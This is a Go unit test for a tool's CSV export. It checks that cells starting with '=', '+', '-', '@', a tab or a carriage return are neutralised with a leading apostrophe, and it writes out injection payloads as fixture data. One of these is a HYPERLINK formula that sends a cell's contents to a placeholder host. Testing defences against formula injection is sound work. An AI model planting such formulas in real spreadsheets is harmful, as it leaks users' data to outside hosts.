package formats

import (
	"bytes"
	"encoding/csv"
	"io"
	"strings"
	"testing"
)

// TestCSVCellsNeutralised puts a formula into every kind of text a CSV
// export writes (an attribute's name, which becomes a column header, and
// its value, titles, code names and paths, descriptions, logins, memos,
// segment text) and checks every cell of every CSV export: none may start
// as a formula, header cells included.
func TestCSVCellsNeutralised(t *testing.T) {
	const evil = `=HYPERLINK("http://x.example/?"&A1,"click")`
	d := fixtureProject()
	d.Documents[0].Attributes[evil] = "+1"
	d.Documents[0].Attributes["site"] = "@SUM(1)"
	d.Documents[0].Title = "-2+3"
	d.Codes[1].Name = evil
	d.Codes[2].Description = "\tTAB"
	d.Users[1].Login = "=ana"
	d.Users[1].Name = "\r=cmd"
	for i := range d.Codings {
		d.Codings[i].Memo = "=memo"
	}
	var csvFormats int
	for _, f := range ExportFormats() {
		if !strings.HasSuffix(f.Ext, ".csv") {
			continue
		}
		csvFormats++
		t.Run(f.Name, func(t *testing.T) {
			var buf bytes.Buffer
			if err := f.Write(&buf, d); err != nil {
				t.Fatal(err)
			}
			r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(buf.Bytes(), []byte("\ufeff"))))
			r.FieldsPerRecord = -1
			var evilSeen bool
			for line := 1; ; line++ {
				row, err := r.Read()
				if err == io.EOF {
					break
				}
				if err != nil {
					t.Fatal(err)
				}
				for i, cell := range row {
					if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
						t.Errorf("%s row %d cell %d = %q, want it neutralised with a leading apostrophe", f.Name, line, i+1, cell)
					}
					evilSeen = evilSeen || cell == "'"+evil || strings.HasSuffix(cell, "› "+evil)
				}
			}
			if !evilSeen {
				t.Errorf("%s: the formula is in no cell at all; the test does not reach it", f.Name)
			}
		})
	}
	if csvFormats < 2 {
		t.Fatalf("%d CSV export formats, want at least 2 (segments, codebook)", csvFormats)
	}
}
